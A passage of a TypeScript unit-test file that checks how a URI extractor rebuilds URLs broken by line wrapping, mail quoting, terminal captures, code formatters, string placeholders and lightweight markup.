    const text =
      "--2026-11-29 03:10:57--  http://www.example.test:8081/k139/trail-\n" +
      "Resolving www.example.test (www.example.test)... failed.\n" +
      "INFO: Fetching http://localhost:8081/k055/trail-\nOK done\n" +
      "OK http://localhost:8081/k056/trail-\nNov 29, 2026 3:12:19 AM Fetch main\n" +
      "Error: Request failed with status 500: http://[::1]:8081/k167/trail-\n" +
      "    at file:///tmp/progs/nodefetch.mjs:7:22\n" +
      "Error: x http://a.example/b-\n    at Object.<anonymous> (/tmp/x.js:1:1)\n" +
      // (wrapped prose still goes on: 2396bis App. E)
      "see http://example.com/regular-dlls-statically-linked-\n  to-mfc for more\n";
    expect(uris(text)).toEqual([
      "http://www.example.test:8081/k139/trail-",
      "http://localhost:8081/k055/trail-",
      "http://localhost:8081/k056/trail-",
      "http://[::1]:8081/k167/trail-",
      "file:///tmp/progs/nodefetch.mjs",
      "http://a.example/b-",
      "http://example.com/regular-dlls-statically-linked-to-mfc",
    ]);
    expectRecordsAtEverySplit(text, 5);
  });
});

describe("session 42: quoting styles of mail readers (the mail hunt)", () => {
  test("Supercite's 'JQD> ', mutt's ': ' and '| > ' are quote prefixes on a wrapped URI's lines", () => {
    const text =
      ">>>>> On Mon, 04 Mar 2024, John Q. Doe <john@example.org> said:\n" +
      "    JQD> The full address is\n" +
      "    JQD>   <https://wiki.archlinux.org/caf%C3%A9/tk232/\n" +
      "    JQD>    report-2024.pdf?b=1&q=2>\n\n" +
      "    JQD> https://downloads.example.org:8080/archive/tk005/2023-\n" +
      "    JQD> March/thread/index.html\n\n" +
      ": The full address is\n" +
      ":   <https://en.wikipedia.org/guide/tk194/post/file_name.tar.gz/\n" +
      ":    advisories>\n" +
      ": https://downloads.example.org:8080/archive/tk006/2023-\n: March/thread/index.html\n\n" +
      "| >   <https://lists.debian.org/guide/x;type=a/tk174/dot.dir/users/\n" +
      "| >    post/search/index?page=en>\n";
    expect(uris(text)).toEqual([
      "https://wiki.archlinux.org/caf%C3%A9/tk232/report-2024.pdf?b=1&q=2",
      "https://downloads.example.org:8080/archive/tk005/2023-March/thread/index.html",
      "https://en.wikipedia.org/guide/tk194/post/file_name.tar.gz/advisories",
      "https://downloads.example.org:8080/archive/tk006/2023-March/thread/index.html",
      "https://lists.debian.org/guide/x;type=a/tk174/dot.dir/users/post/search/index?page=en",
    ]);
    expectRecordsAtEverySplit(text, 7);
  });
  test("a word and '>' without a blank after it is the URI's rest, not a citation", () => {
    expect(
      uris("> see <https://example.com/aaa/\n> bbb.html>\n> <https://example.com/c/\nd>\n"),
    ).toEqual(["https://example.com/aaa/bbb.html", "https://example.com/c/d"]);
  });
});

describe("session 42: the review's cases", () => {
  const commits = [1, 2, 3].map(
    (d) =>
      `https://github.com/example-org/example-repo/commit/${String(d).padStart(2, "0").repeat(20)}`,
  );
  test.each([
    [
      "a ChangeLog's rule",
      `${"-".repeat(70)}\nVersion 0.3.2\n- see\n  http://blog.gerhards.net/2011/11/log-annotation-with-liblognorm.html\n${"-".repeat(70)}\nVersion 0.3.1\n`,
    ],
    [
      "a list's next bullet",
      "- improved error message for invalid field extraction in string template lo\n  see also:\n  http://kb.monitorware.com/problem-with-field-based-extraction-t12299.html\n- fix build problems on Solaris\n",
    ],
    ["a signature", `${commits.join("\n")}\n-- \nJoe Example\n`],
    ["a version", `${commits.join("\n")}\nv2.0.1 released\n`],
    ["a date", `${commits.join("\n")}\n2023-05-01: done\n`],
    ["a heading", `${commits.join("\n")}\n## Changes\n`],
    ["a rule", `${commits.join("\n")}\n---\n`],
    [
      "a capitalized name",
      "https://example.com/aaaa/bbbb/cccc/dddd/eeee/ffff/gggg/hhhh/a\nhttps://example.com/aaaa/bbbb/cccc/dddd/eeee/ffff/gggg/hhhh/b\nREADME.md\n",
    ],
  ])("a URI line as wide as a list's or a rule's takes no next line: %s", (_, text) => {
    const got = uris(text);
    expect(got.every((u) => /\/(hhhh\/[ab]|[0-9]{40}|[a-z0-9-]+\.html)$/.test(u))).toBe(true);
  });
  test("a hyphen break's rest with a '/' goes on after a line opening with a log level", () => {
    expect(
      uris(
        "WARNING: the old site at https://example.org/some-\nlong-path/ is gone; use the new one.\n" +
          "[ERROR] Failed to fetch https://repo.example.org/maven2/org/foo/foo-\nbar/1.0/foo-bar-1.0.pom\n",
      ),
    ).toEqual([
      "https://example.org/some-long-path/",
      "https://repo.example.org/maven2/org/foo/foo-bar/1.0/foo-bar-1.0.pom",
    ]);
  });
  test("git log --graph -p: a context line goes on with the '<…>' of an added one", () => {
    const text =
      "* commit abc\n| \n| diff --git a/x b/x\n| --- a/x\n| +++ b/x\n| @@ -1 +1,2 @@\n" +
      "| +See <https://example.com/a/\n|   b.html> now\n";
    expect(uris(text)).toEqual(["https://example.com/a/b.html"]);
  });
  test("a definition list's ': ' is no quote marker; a citation is not a plain '>'", () => {
    expect(
      uris("Apple\n: A fruit, see https://en.wikipedia.org/wiki/Apple-\n: Also a company\n"),
    ).toEqual(["https://en.wikipedia.org/wiki/Apple-"]);
    expect(uris("Bob> see <https://example.com/a/\n> b.html> x\n")).toEqual([
      "https://example.com/a/",
    ]);
  });
  test("a table's next row with a host name, a capitalized word or blanks is no continuation", () => {
    expect(uris("|Docs|https://docs.example.io|\n|    |wiki.example.io        |\n")).toEqual([
      "https://docs.example.io",
    ]);
    expect(uris("|Item|https://a.example/one|\n|    |Item2                |\n")).toEqual([
      "https://a.example/one",
    ]);
  });
  test("a field code whose target spells its blanks '%20': a line break in it is a cut", () => {
    expect(
      uris(
        'HYPERLINK "https://sharepoint.example.com/sites/Team/Shared%20Documents/Pr\noject%20Plan.docx"\n',
      ),
    ).toEqual(["https://sharepoint.example.com/sites/Team/Shared%20Documents/Project%20Plan.docx"]);
  });
  test("'proxy:' with no authority after its scheme's '//' stays as written", () => {
    expect(
      uris('     a "proxy:fcgi://" prefix in the SCRIPT_FILENAME', { includeInvalid: true }),
    ).toEqual(["proxy:fcgi://"]);
  });
  test("java.util.logging's date after a hyphen break, whatever the chunking", () => {
    const text = "Wiki at https://wiki.example.com/Meeting-\nNov 29, 2026 notes\n";
    expect(uris(text)).toEqual(["https://wiki.example.com/Meeting-"]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 42: a port on the next line of a hard wrap (the mail hunt's textwrap)", () => {
  test("'scheme://host' ending a line of a wrap width goes on with ':port/…'", () => {
    const text =
      "I have been looking into the problem you reported last week and I think\n" +
      "we finally understand what is going on with the build. The patch applies\n" +
      "the tests pass on my machine. Have you already read https://lists.debian.org\n" +
      ":8080/tk022/dot.dir/Foo_bar/a+b/report-2024.pdf?\n\nCheers,\n" +
      "the tests pass on my machine. Have you already read https://lists.debian.org\n" +
      ":-) said he\n";
    expect(uris(text)).toEqual([
      "https://lists.debian.org:8080/tk022/dot.dir/Foo_bar/a+b/report-2024.pdf",
      "https://lists.debian.org",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });
});

describe("session 42: the second review's cases", () => {
  const para =
    "Thanks for the report. I looked into the crash you described, and it\n" +
    "seems to be caused by the locale handling in the config file parser,\n" +
    "which has been rewritten upstream since the last release. See the\nthread:\n";
  test.each([
    "it's the same bug as the one in the tracker, so I am closing this.\n",
    "%s is printed where the name should be, so I am closing this.\n",
    "src/config.c has the fix, so I am closing this one as a duplicate.\n",
    "#134835 is the same bug, so I am closing this one as a duplicate.\n",
  ])("a whole URL alone on its line as wide as the paragraph's widest takes no prose: %s", (next) => {
    expect(
      uris(
        `${para}https://lists.example.org/pipermail/foo-devel/2023-March/004512.html\n${next}`,
      )[0],
    ).toBe("https://lists.example.org/pipermail/foo-devel/2023-March/004512.html");
  });
  test("a quoted URI on a Supercite line does not go on in a line of '>' markers", () => {
    expect(
      uris('    JQD> see "https://example.org/a/very/long/\n>>>>> path/page.html" now\n', {
        includeInvalid: true,
      })[0],
    ).toBe("https://example.org/a/very/long/");
  });
});

describe("session 42: a URN whose NID is digits opens a line (a planted-URI property run)", () => {
  test("'urn:36:a' at a line's start is no grep -n prefix", () => {
    expect(uris("urn:36:a? yes \nurn:123:b\nNEWS:15:https://a.example/x\n")).toEqual([
      "urn:36:a",
      "urn:123:b",
      "https://a.example/x",
    ]);
  });
});

describe("session 43: a '|' glued to the next 'scheme://' inside quotes", () => {
  test("Apache's socket path and its backend URL are two URIs", () => {
    const text = 'SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n';
    expect(uris(text)).toEqual(["proxy:unix:/run/php/php8.2-fpm.sock", "fcgi://localhost"]);
    expectRecordsAtEverySplit(text);
  });
  test("two URLs joined by '|' in quotes are two", () => {
    expect(uris('x "http://a.example|http://b.example/" y')).toEqual([
      "http://a.example",
      "http://b.example/",
    ]);
  });
  test("in a query, '|' joins the URIs of one value: one URI", () => {
    expect(uris('x "http://a.example/x?u=http://b|http://c" y')).toEqual([
      "http://a.example/x?u=http://b|http://c",
    ]);
  });
  test("a '|' before no scheme stays the quoted URI's", () => {
    expect(uris('"https://fonts.googleapis.com/css?family=Roboto|Open+Sans"')).toEqual([
      "https://fonts.googleapis.com/css?family=Roboto|Open+Sans",
    ]);
    expect(uris('"http://a.example/x|y/z"')).toEqual(["http://a.example/x|y/z"]);
  });
});

describe("session 43: a URI cut where a terminal's row ends (tmux capture-pane without -J, screen hardcopy, fold -w)", () => {
  const urls = [
    "https://raw.githubusercontent.com/guide/reference/account/lib-1.23.5.tar.gz/0334518",
    "http://cdn.jsdelivr.net/docs-1.30.9.tar.gz?ref=terminal+capture&ref=wEmxV9L6f51HSGkR&page=abc&utm_source=x%2Fy",
    "https://deb.debian.org/faq/main/en-US/results_search/blob_api/account/package",
    "https://stackoverflow.com/settings/settings.html/faq/blob_settings/master-3.14.2.tar.gz/results_src/install?token=x%2Fy&sort=terminal+capture",
    "https://kubernetes.io/d2e73d4c430e76dac7de98c1d96b551ac1f1fd85/4ed37f026491/latest/reference-9.11.7.tar.gz/settings",
    "ftp://mirror.example.net/pub/releases/2026/11/very-long-directory-name/and-a-file-name-1.2.3.tar.xz",
  ];
  const prefixes = ["error: could not fetch ", "Visit ", "note: ", "", "see also ", "Fetching "];
  const suffixes = [
    " for details",
    " and then reboot the machine to apply everything.",
    ", retried 3 times",
    "",
    " (12.3 MB)",
    " ...",
  ];
  /** a URL's longer form, for a wide terminal: its path twice */
  const longer = (u: string) => u.replace(/^([a-z]+:\/\/[^/]+)(\/[^?]*)/, "$1$2$2");
  /** the logical lines, each shown as rows of `width` columns, as a terminal does */
  function capture(width: number, list = urls): string {
    const lines: string[] = [];
    for (let r = 0; r < 4; r++) {
      for (let k = 0; k < list.length; k++) {
        lines.push(`${prefixes[(k + r) % 6]}${list[k]}${suffixes[(k + 2 * r) % 6]}`);
        lines.push(r % 2 ? "Downloaded https://deb.debian.org/ (12.3 MB)" : "$ make install");
      }
    }
    const rows: string[] = [];
    for (const line of lines)
      for (let a = 0; a < line.length || a === 0; a += width) rows.push(line.slice(a, a + width));
    return `${rows.join("\n")}\n`;
  }
  test.each([
    40, 64, 80, 132,
  ])("%i columns: once the rows show the width, every URL is whole", (width) => {
    // (at 132 columns, URLs long enough to be cut: lines shorter than the width are not)
    const list = width > 100 ? urls.map(longer) : urls;
    const text = capture(width, list);
    const got = uris(text).filter((u) => u !== "https://deb.debian.org/");
    // (the first lines come before the rows say what the width is)
    const tail = got.slice(-list.length * 2);
    expect(tail).toEqual([...list, ...list]);
    expect(extractText(text).filter((f) => f.wrapped).length).toBeGreaterThan(list.length);
  });
  test("the same records whatever the chunks", () => {
    expectRecordsAtEverySplit(capture(80), 53);
  });
  test("a new row's own start is no URL's rest: a capitalized word, a field, a time, a prompt, a scheme", () => {
    const head = capture(80);
    const row = "see https://example.org/files/2026/11/release-notes-for-the-long-version-x1/abcd";
    expect(row.length).toBe(80);
    for (const next of [
      "Downloaded 12 files",
      "Upstream-Name: foo",
      "12:30:45 INFO done",
      "$ ls",
      "https://example.org/next",
      "www.example.org is next",
      "(the end)",
    ]) {
      expect(uris(`${head}${row}\n${next}\n`), next).toContain(
        "https://example.org/files/2026/11/release-notes-for-the-long-version-x1/abcd",
      );
    }
    expect(uris(`${head}${row}\nyz/more and so on\n`)).toContain(
      "https://example.org/files/2026/11/release-notes-for-the-long-version-x1/abcdyz/more",
    );
  });
  test("text a writer wrapped is no terminal's: ragged, justified or fixed-width rows", () => {
    const url = "https://lists.example.org/pipermail/foo-devel/2023-March/004512.html";
    // ragged (a greedy wrapper): rows end near the width, none where the next word fitted
    const words =
      "the quick brown fox jumps over the lazy dog while the report of the meeting says that the mirror will move to a new host in the spring and that every user should update the address in their configuration before the end of the month or the old one will stop working".split(
        " ",
      );
    const rows: string[] = [];
    let row = "";
    for (let r = 0; r < 6; r++)
      for (const w of words) {
        if (row.length + 1 + w.length > url.length) {
          rows.push(row);
          row = w;
        } else row = row ? `${row} ${w}` : w;
      }
    rows.push(row);
    const ragged = `${rows.join("\n")}\n${url}\nit is the same bug\n`;
    expect(uris(ragged)).toEqual([url]);
    // fixed width: every row as wide, none ending by itself
    const block = Array.from(
      { length: 30 },
      (_, i) => `${String(i).padStart(4, "0")} ${"x".repeat(url.length - 5)}`,
    );
    expect(uris(`${block.join("\n")}\n${url}\n0031 next\n`)).toEqual([url]);
  });
});

describe("session 43: comment leaders of more than one character (the source-comment hunt)", () => {
  test.each([
    "//!",
    "#'",
    "#:",
    "--!",
    "!",
    "!!",
    "!>",
    "'",
    "'''",
    "REM",
    "@REM",
    "dnl",
    "*>",
    '"',
  ])("%s: a <…> URL reflowed onto the next comment line is joined without the leader", (leader) => {
    const text = `${leader} see <https://dl.acm.org/memory-model/reg\n${leader} ex-a> and more\n`;
    expect(uris(text)).toEqual(["https://dl.acm.org/memory-model/regex-a"]);
    expectRecordsAtEverySplit(text, 3);
  });
  test("… and a bare one broken after a '/' of a line wrapped at a width", () => {
    const text =
      "! The mirror lives at ftp://ftp.debian.org/debian/pool/main/b/buffer/\n! buffer-6.1.tar.xz for the time being, see the list.\n";
    expect(uris(text)).toEqual([
      "ftp://ftp.debian.org/debian/pool/main/b/buffer/buffer-6.1.tar.xz",
    ]);
  });
  test("a leader that the next line does not repeat is no leader of it", () => {
    expect(
      uris("REM see <https://dl.acm.org/memory-model/reg\nREMex-a>\n", { includeInvalid: true })[0],
    ).not.toBe("https://dl.acm.org/memory-model/regex-a");
  });
});

describe("session 43: a placeholder that opens or completes a fragment or a query (the source-comment hunt)", () => {
  // (the texts hold a template's "${…}" on purpose: plain strings, built with "$" + "{")
  const ph = (name: string) => `$${"{"}${name}}`;
  test.each([
    [
      `\`https://github.com/golang/redis/issues/22148#issuecomment-809407353${ph("query")}\``,
      "https://github.com/golang/redis/issues/22148",
    ],
    [`see https://example.org/page#${ph("anchor")} ok`, "https://example.org/page"],
    [`"https://example.org/search?${ph("q")}"`, "https://example.org/search"],
    // (a query's item keeps its name: the rule of session 21)
    [`"https://example.org/a/b?x=1&y=${ph("val")}"`, "https://example.org/a/b?x=1&y="],
  ])("%s → %s: no empty fragment or query is left", (text, want) => {
    expect(uris(text)).toEqual([want]);
  });
});

describe("session 43: a C comment opened on the line before the URI (clang-format's reflow)", () => {
  test("its '*/' after the URI is the comment's", () => {
    expect(uris("int y; /*\nhttps://example.org/a/b*/\n")).toEqual(["https://example.org/a/b"]);
    expect(uris("/**\n   https://example.org/a/b*/\n")).toEqual(["https://example.org/a/b"]);
  });
  test("a glob's '/*' is no comment: 'see src/*' LF 'http://aa/*/' keeps its '*/'", () => {
    expect(uris("see src/*\nhttp://aa/*/\n")).toEqual(["http://aa/*/"]);
  });
});

describe("session 43: a string literal that is a URL alone, split by a code formatter (clang-format's BreakStringLiterals)", () => {
  test("C: the next line's string that ends the statement is the URL's rest (ISO C §6.4.5)", () => {
    const text =
      'static const char *kUrl =\n    "https://code.visualstudio.com/"\n    "compression/quadtree?streaming=1";\n';
    expect(uris(text)).toEqual(["https://code.visualstudio.com/compression/quadtree?streaming=1"]);
    expectRecordsAtEverySplit(text);
  });
  test("Python: implicit concatenation inside a call's parentheses", () => {
    expect(
      uris('url = ("https://code.visualstudio.com/"\n       "compression/quadtree?streaming=1")\n'),
    ).toEqual(["https://code.visualstudio.com/compression/quadtree?streaming=1"]);
  });
  test("not a shell array's strings, one a line, nor a next string that is a URL of its own", () => {
    expect(uris('urls=(\n  "http://d.example/z"\n  "b.txt"\n)\n')).toEqual(["http://d.example/z"]);
    expect(uris('x = "http://a.example/x/"\n    "http://b.example/y";\n')).toEqual([
      "http://a.example/x/",
      "http://b.example/y",
    ]);
    expect(uris('x = "https://a.example/docs/"\n  "a b";\n')).toEqual(["https://a.example/docs/"]);
  });
});

describe("session 44: a trailing line comment that the next line of code does not go on (the source-comment hunt)", () => {
  test.each([
    [
      "@Deprecated(forRemoval = true) // https://llvm.org/vectorization/memory-model-\nclass A {}\n",
    ],
    ["y = 2  # https://example.org/release-\nz = 3\n"],
    ["x;  // https://example.org/release-\nz = 3\n"],
  ])("%j: the hyphen ends the URI", (text) => {
    expect(uris(text)).toHaveLength(1);
    expect(uris(text)[0]).toMatch(/-$/);
    expectRecordsAtEverySplit(text);
  });
  test("a comment line of its own still goes on, and so does prose", () => {
    expect(uris("# https://example.org/release-\n# notes\n")).toEqual([
      "https://example.org/release-notes",
    ]);
    expect(uris("read https://example.org/release-\nnotes now\n")).toEqual([
      "https://example.org/release-notes",
    ]);
  });
});

describe("session 44: 'https:' at a comment line's end, '//host' after the leader on the next (vim fo+=mM)", () => {
  test.each([
    [
      "# 年 lives at https:\n# //es.wikipedia.org/wiki/Año_bisiesto\n",
      "https://es.wikipedia.org/wiki/Año_bisiesto",
    ],
    [
      "// 中文 see https:\n// //es.wikipedia.org/wiki/Año more\n",
      "https://es.wikipedia.org/wiki/Año",
    ],
    ["-- 中文 https:\n--   //example.org/a/b\n", "https://example.org/a/b"],
    [
      "/* Ported from the original\n * implementation, which lives at https:\n * //es.wikipedia.org/wiki/Año_bisiesto\n * */ int x;\n",
      "https://es.wikipedia.org/wiki/Año_bisiesto",
    ],
  ])("%j → %s", (text, want) => {
    expect(uris(text)).toEqual([want]);
    expectRecordsAtEverySplit(text);
  });
  test("not a comment's next words, nor a line of code's comment", () => {
    expect(uris("# see ftp:\n# ftp.example.org\n")).toEqual([]);
    expect(uris("case http:\n//comment.here\n")).toEqual([]);
    expect(uris("// see https:\n// // nothing here\n")).toEqual([]);
  });
});

describe("session 44: Haddock's '<url label>' with a scheme that has no '//'", () => {
  test.each([
    ["-- | see <urn:isbn:9780131103627 the reference> if\n", "urn:isbn:9780131103627"],
    ["-- | <mailto:a@example.org the maintainer>\n", "mailto:a@example.org"],
  ])("%j → %s", (text, want) => {
    expect(uris(text)).toEqual([want]);
  });
  test("in a '{-' block comment too (Haddock's '{- |')", () => {
    const text =
      "{- |\nModule      : Data.Foo\nSee <https://a.example/x/y.html the talk> for more.\n-}\n";
    expect(uris(text)).toEqual(["https://a.example/x/y.html"]);
    expectRecordsAtEverySplit(text);
    expect(uris("{- x -}\nSee <https://a.example/x/y.html the talk> for more.\n")).toEqual([
      "https://a.example/x/y.htmlthetalk",
    ]);
  });
  test("outside a Haskell comment, blanks inside <…> are dropped (2396bis App. E)", () => {
    expect(uris("see <urn:isbn:97801 31103627> x\n")).toEqual(["urn:isbn:9780131103627"]);
  });
});

describe("session 44: POD's L<text|url> ends at its '>'", () => {
  test("a URL that ends in '-' keeps it", () => {
    expect(uris("L<the reference|https://example.org/fft/garbage-collection->\n")).toEqual([
      "https://example.org/fft/garbage-collection-",
    ]);
    // (a filled paragraph broke the link's text)
    expect(uris("case: L<the\nreference|https://example.org/fft/gc->\nLast\n")).toEqual([
      "https://example.org/fft/gc-",
    ]);
  });
  test("an arrow elsewhere is still no part of the URI", () => {
    expect(uris("Redirect http://a.example/x->https://b.example/y\n")).toEqual([
      "http://a.example/x",
      "https://b.example/y",
    ]);
    expect(uris("a|https://example.org/fft/gc->\n")).toEqual(["https://example.org/fft/gc"]);
  });
});

describe("session 44: an interpolated string's '{name}' is a placeholder (PEP 498 f-strings, C# $\"…\")", () => {
  test.each([
    ['requests.get(f"https://example.org/a/b.html{suffix}")\n', "https://example.org/a/"],
    ["u = f'https://example.org/a/{suffix}/c'\n", "https://example.org/a/"],
    ['u = rf"https://example.org/a/{suffix}"\n', "https://example.org/a/"],
    ['var u = $"https://example.org/items/{id}/edit";\n', "https://example.org/items/"],
    ['var u = $@"https://example.org/items/{id}/edit";\n', "https://example.org/items/"],
  ])("%j → %s", (text, want) => {
    expect(uris(text)).toEqual([want]);
    expectRecordsAtEverySplit(text);
  });
  test("the host's placeholder gives nothing; '{{' is a brace", () => {
    expect(uris('x = f"https://{host}/a"\n')).toEqual([]);
    expect(uris('x = f"https://example.org/{{literal}}/a"\n')).toEqual([
      "https://example.org/{{literal}}/a",
    ]);
  });
  test("a plain string or another word's 'f' keeps the braces (a URI template's, a wiki's)", () => {
    expect(uris('u = "https://example.org/items/{id}/edit"\n')).toEqual([
      "https://example.org/items/{id}/edit",
    ]);
    expect(uris('x = elf"https://example.org/a/{b}"\n')).toEqual(["https://example.org/a/{b}"]);
  });
});

describe("session 44: a Markdown link's destination broken by a reflow goes on to the link's ')' (rustfmt wrap_comments)", () => {
  test.each([
    [
      "/// caveats at [the reference](info:doi/10.5201/\n/// deflate.2003.397) for more\n",
      "info:doi/10.5201/deflate.2003.397",
    ],
    ["see [the reference](urn:isbn:\n9780131103627) for more\n", "urn:isbn:9780131103627"],
    [
      "see [the reference](https://example.org/a/\nb/c.html) for more\n",
      "https://example.org/a/b/c.html",
    ],
    ["> [a](https://example.org/a/\n> b.html).\n", "https://example.org/a/b.html"],
  ])("%j → %s", (text, want) => {
    expect(uris(text)).toEqual([want]);
    expectRecordsAtEverySplit(text);
  });
  test("not words of prose before the ')', nor a parenthesis that is no link's, nor the next URI", () => {
    expect(uris("[a](https://example.org/a/\nand more words) here\n")).toEqual([
      "https://example.org/a/",
    ]);
    expect(uris("see (https://example.org/a/\nb/c.html) for more\n")).toEqual([
      "https://example.org/a/",
    ]);
    // (a line break is blank space: "(bar))" is a title's, CommonMark §6.3)
    expect(uris("[a](https://en.wikipedia.org/wiki/Foo_\n(bar)) x\n")).toEqual([
      "https://en.wikipedia.org/wiki/Foo_",
    ]);
    expect(uris("[a](https://a.example/x/\nhttps://b.example/y) z\n")).toEqual([
      "https://a.example/x/",
      "https://b.example/y",
    ]);
  });
});

describe("session 44: a string literal split in more than two by a code formatter, and a placeholder after a path's '='", () => {
  test("clang-format's pieces, one a line, up to the one that ends the statement", () => {
    const text =
      'static const char *kUrl =\n    "https://code.visualstudio.com/"\n    "compression/"\n    "quadtree;jsessionid=11EA0FC1?"\n    "streaming=1";\n';
    expect(uris(text)).toEqual([
      "https://code.visualstudio.com/compression/quadtree;jsessionid=11EA0FC1?streaming=1",
    ]);
    expectRecordsAtEverySplit(text);
    expect(
      uris(
        's = std::string("data:text/"\n    "plain;charset=utf-8,"\n    "Hello%20World") +\n  "/" + name;\n',
      ),
    ).toEqual(["data:text/plain;charset=utf-8,Hello%20World"]);
  });
  test("a C array's strings, each closed by ',', stay apart", () => {
    expect(uris('const char *u[] = {\n  "http://a.example/",\n  "b",\n};\n')).toEqual([
      "http://a.example/",
    ]);
  });
  test("in the path only '/' and ';' end the placeholder's segment", () => {
    expect(
      uris(
        'resp = requests.get(f"https://msdn.microsoft.com/en-us/library/bb773371(v=vs.85).aspx{suffix}")\n',
      ),
    ).toEqual(["https://msdn.microsoft.com/en-us/library/"]);
    expect(uris(["see https://example.org/a/b?x=1&y=$", "{v} ok\n"].join(""))).toEqual([
      "https://example.org/a/b?x=1&y=",
    ]);
  });
});

describe("session 44: lightweight markup around a URI (the markup hunt)", () => {
  test.each([
    [
      "open `+https://lists.example.fr/blog/config.yaml+` in a browser.\n",
      "https://lists.example.fr/blog/config.yaml",
    ],
    [
      "open ''%%https://lists.example.fr/blog/config.yaml%%'' in a browser.\n",
      "https://lists.example.fr/blog/config.yaml",
    ],
    [
      "open @https://lists.example.fr/blog/config.yaml@ in a browser.\n",
      "https://lists.example.fr/blog/config.yaml",
    ],
    [
      "open @urn:oasis:names:specification:docbook:dtd:xml:4.1.2@ in a browser.\n",
      "urn:oasis:names:specification:docbook:dtd:xml:4.1.2",
    ],
    ["see @@https://x19.example/a@@ here\n", "https://x19.example/a"],
    [
      "open =https://lists.example.fr/blog/config.yaml#install= in a browser.\n",
      "https://lists.example.fr/blog/config.yaml#install",
    ],
  ])("code and verbatim marks: %j → %s", (text, want) => {
    expect(uris(text)).toEqual([want]);
    expectRecordsAtEverySplit(text);
  });
  test("a query's empty value keeps its '=', and an '@' glued to a word is no mark", () => {
    expect(uris("open =https://x.example/a?q= in\n")).toEqual(["https://x.example/a?q="]);
    expect(uris("Caller@example:IDENTITY\n")).toEqual([]);
    expect(uris("see https://example.org/a%% x\n")).toEqual(["https://example.org/a%%"]);
  });
  test.each([
    ['p. See "the paper":info:doi/10.1000/182 for details.\n', "info:doi/10.1000/182"],
    [
      'p. Join "the room":xmpp:room@conference.example.org?join now.\n',
      "xmpp:room@conference.example.org?join",
    ],
    ["NOTE: See link:info:doi/10.1038/nphys1170[the paper].\n", "info:doi/10.1038/nphys1170"],
  ])("Textile's and AsciiDoc's link before a scheme with no '//': %j → %s", (text, want) => {
    expect(uris(text)).toEqual([want]);
  });
  test("a quoted key before a colon is no Textile link", () => {
    expect(uris('{"url":urn:x:y}\n')).toEqual([]);
  });
  test("Markdown's escaped '(' whose ')' is plain is no groff name", () => {
    expect(uris("from https://en.wikipedia.org/wiki/Mercury\\_\\(planet)#History which\n")).toEqual(
      ["https://en.wikipedia.org/wiki/Mercury_(planet)#History"],
    );
    expect(uris("see https://en.wikipedia.org/wiki/Foo_\\(slang) here\n")).toEqual([
      "https://en.wikipedia.org/wiki/Foo_(slang)",
    ]);
    // (a raw man page's named characters are still read)
    expect(uris(".UR http://www.cl.cam.ac.uk/\\(timgk25/\n")).toEqual([
      "http://www.cl.cam.ac.uk/~mgk25/",
    ]);
  });
  test("groff's \\[uXXXX] in a man page pandoc wrote is the character (groff_char(7))", () => {
    const text =
      ".TH X 1\n.SH SEE ALSO\n\\f[B]https://ru.wikipedia.org/wiki/\\[u041C]\\[u043E]\\[u0441]\\[u043A]\\[u0432]\\[u0430]\\f[R]\n";
    expect(uris(text)).toEqual(["https://ru.wikipedia.org/wiki/Москва"]);
    expectRecordsAtEverySplit(text);
    expect(uris("see http://x.example/a\\[uZZ]b\n")).toEqual(["http://x.example/a"]);
  });
  test("LaTeX's \\~{} is a tilde, its empty group no part of the URI", () => {
    const text = "see http://www.ee.example.edu/\\~{}ab123/teaching/ for the notes\n";
    expect(uris(text)).toEqual(["http://www.ee.example.edu/~ab123/teaching/"]);
    expectRecordsAtEverySplit(text);
  });
  test("a closing tag after the URI ends it whole ({{/code}})", () => {
    expect(
      uris("open {{code}}https://static.example.edu/docs/report.pdf{{/code}} in a browser.\n"),
    ).toEqual(["https://static.example.edu/docs/report.pdf"]);
  });
  test("mIRC's colour code before a scheme", () => {
    expect(uris("12:34 <bob> fyi \u000312ftp://ftp.example.net/pub/x.tar.xz\u0003 nice\n")).toEqual(
      ["ftp://ftp.example.net/pub/x.tar.xz"],
    );
    expect(uris("see \u000304,01urn:ietf:rfc:2648\u000f ok\n")).toEqual(["urn:ietf:rfc:2648"]);
    expect(uris("fyi 12ftp://ftp.example.net/pub/x nice\n")).toEqual([]);
  });
});

describe("session 44: the review's cases", () => {
  test("a destination's join refuses a string's quote, a quoted-printable '=', a title and a word", () => {
    expect(
      uris(
        "'default service account](https://cloud.google.com/compute/docs/'\n'access/service-accounts#default_service_account) is used.'\n",
      ),
    ).toEqual(["https://cloud.google.com/compute/docs/"]);
    expect(uris("[here](https://kb.ettu=\ns.com/X300/X310#x)\n")).toEqual(["https://kb.ettu"]);
    expect(uris("[a](https://example.org/a/\n'Title')\n")).toEqual(["https://example.org/a/"]);
    expect(uris("[a](https://example.org/a/\n(Title))\n")).toEqual(["https://example.org/a/"]);
    // (a word of letters is a terminal's or a hard wrap's cut too: the second review)
    expect(uris("[docs](https://example.org/docs/instal\nlation)\n")).toEqual([
      "https://example.org/docs/installation",
    ]);
    expect(uris("[s](https://example.org/search?q=\nfoo)\n")).toEqual([
      "https://example.org/search?q=foo",
    ]);
  });
  test("a shell array's, PowerShell's or Lisp's strings, one a line, are items", () => {
    expect(
      uris('source=("https://example.org/foo-1.0.tar.gz"\n"fix.patch"\n"foo.service")\n'),
    ).toEqual(["https://example.org/foo-1.0.tar.gz"]);
    expect(uris('$u = @("https://example.org/a/"\n"b.txt")\n')).toEqual(["https://example.org/a/"]);
    // (a keyword argument's "url=(" inside a call is Python's: one string — the second review)
    expect(uris('x = dict(url=("https://example.org/a/"\n"b.html"))\n')).toEqual([
      "https://example.org/a/b.html",
    ]);
  });
  test("a list's bullet is no comment leader before '//host'", () => {
    expect(uris("* see https:\n* //example.org/a\n")).toEqual([]);
    expect(uris(" * see https:\n * //example.org/a\n")).toEqual(["https://example.org/a"]);
  });
  test("fuzzy: a template's field and a name compared on the right are code", () => {
    const f = { fuzzy: true };
    expect(uris("uri = f'gs://{source.bucket}/{source.name}'\n", f)).toEqual([]);
    expect(uris("        return (self.id == other.id)\n", f)).toEqual([]);
    expect(uris('"nt" == os.name\n', f)).toEqual([]);
    expect(uris("a != other.id\n", f)).toEqual([]);
    expect(uris("see example.name today\n", f)).toEqual(["http://example.name"]);
  });
});

describe("session 44: a single '_' emphasis is the line's (the second review)", () => {
  test("a word that opened with '_' lines before takes no URI's own last '_'", () => {
    const text = "Call _setup() first, then see\nhttps://example.org/wiki/Foo_ for details\n";
